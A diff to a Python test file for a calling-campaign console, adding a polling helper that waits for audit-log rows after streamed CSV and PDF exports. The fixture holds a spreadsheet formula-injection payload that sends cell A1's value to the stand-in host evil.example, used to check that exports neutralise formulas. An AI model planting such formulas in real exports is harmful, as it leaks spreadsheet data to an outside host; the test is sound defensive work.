@@ -4,6 +4,7 @@ across units, nothing for callers."""
 
 from __future__ import annotations
 
+import asyncio
 import io
 
 from core import db
@@ -13,6 +14,18 @@ from tests.core.console.helpers import csrf_of
 from tests.plugins.calling.conftest import next_call, open_assignment, report
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
+
+
+async def _audited(app, action: str, expected: int) -> list[dict]:
+    """The audit rows of ``action`` once ``expected`` are written: a streamed download queues
+    its list read after the last byte went out, which may be just after the client has it."""
+    for _ in range(100):
+        await flush_list_reads(app)
+        rows = await db.fetch("SELECT detail FROM audit_log WHERE action = {} ORDER BY id", action)
+        if len(rows) >= expected:
+            return rows
+        await asyncio.sleep(0.05)
+    return rows
 
 
 async def console_login(client, email: str):
@@ -109,10 +122,7 @@ async def test_results_page_and_formula_safe_downloads_are_audited(app, client, 
     assert any(str(v).startswith("'=HYPERLINK") for row in values for v in row)
     bad = await client.get(base + "/results/export", params={"format": "pdf"})
     assert bad.status_code == 422
-    await flush_list_reads(app)
-    audited = await db.fetch(
-        "SELECT detail FROM audit_log WHERE action = 'calling.results_exported' ORDER BY id"
-    )
+    audited = await _audited(app, "calling.results_exported", 2)
     assert len(audited) == 2
     detail = db.json_value(audited[0]["detail"])
     assert len(detail["people"]) == 3 and detail["filter"] == {"format": "csv"}
@@ -139,10 +149,9 @@ async def test_call_log_filters_pages_and_exports(app, client, campaign):
     exported = await client.get(base + "/export", params={"outcome": "busy", "format": "csv"})
     lines = exported.text.splitlines()
     assert len(lines) == 2 and ",busy,\"'=HYPERLINK" in lines[1]
-    await flush_list_reads(app)
-    listed = await db.fetch("SELECT detail FROM audit_log WHERE action = 'calling.log_listed'")
+    listed = await _audited(app, "calling.log_listed", 4)
     assert len(listed) == 4  # the refused filter listed nobody
-    logged = await db.fetch("SELECT detail FROM audit_log WHERE action = 'calling.log_exported'")
+    logged = await _audited(app, "calling.log_exported", 1)
     assert db.json_value(logged[0]["detail"])["filter"] == {"outcome": "busy", "format": "csv"}
 
 
